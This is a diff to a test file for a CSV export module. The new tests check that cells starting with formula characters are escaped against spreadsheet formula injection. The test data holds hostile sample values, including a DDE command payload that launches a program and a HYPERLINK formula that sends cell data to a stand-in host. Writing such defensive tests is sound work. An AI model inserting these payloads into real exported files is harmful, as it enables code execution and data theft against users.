@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { csv } from '../../src/data/export/csv.ts'
+import { csv, isFormula, plainCsv } from '../../src/data/export/csv.ts'
 
 test('fields are quoted where they must be, and only there', () => {
   expect(csv([['a', 'b c', ''], ['x,y', 'say "hi"', 'two\nlines'], ['\r']])).toBe(
@@ -13,8 +13,40 @@ test('numbers are written in full, and nothing where there is none', () => {
   )
 })
 
-test('text stays as it is: letters of any script, spaces, signs', () => {
-  expect(csv([[' Müller ', '腹部', '=1+1', '−0.5']])).toBe(' Müller ,腹部,=1+1,−0.5\r\n')
+test('text stays as it is: letters of any script, spaces, signs within', () => {
+  expect(csv([[' Müller ', '腹部', '1+1=2', 'a@b', '−0.5', '']])).toBe(' Müller ,腹部,1+1=2,a@b,−0.5,\r\n')
+})
+
+test.each([
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  ' =1+1',
+  '\u00a0@x',
+  '\t=1+1',
+  '\tx',
+  '\r=1+1',
+  '\nx',
+  '\n-1',
+  '＝1+1',
+  '－1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.test?"&A1,"x")',
+])('a spreadsheet takes %j for text', hostile => {
+  const quoted = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text)
+  expect(isFormula(hostile)).toBe(true)
+  // In the head of a column, too.
+  for (const at of [0, 1, 2]) {
+    const row = ['a', 'b', 'c'].with(at, hostile)
+    expect(csv([row])).toBe(`${row.with(at, quoted(`'${hostile}`)).join()}\r\n`)
+  }
+  // What another program defines stays as it is.
+  expect(plainCsv([[hostile]])).toBe(`${quoted(hostile)}\r\n`)
+})
+
+test('a negative number is a number', () => {
+  expect(csv([[-1.5, '-1.5', Number.NEGATIVE_INFINITY]])).toBe("-1.5,'-1.5,-Infinity\r\n")
 })
 
 test('nothing makes nothing', () => {
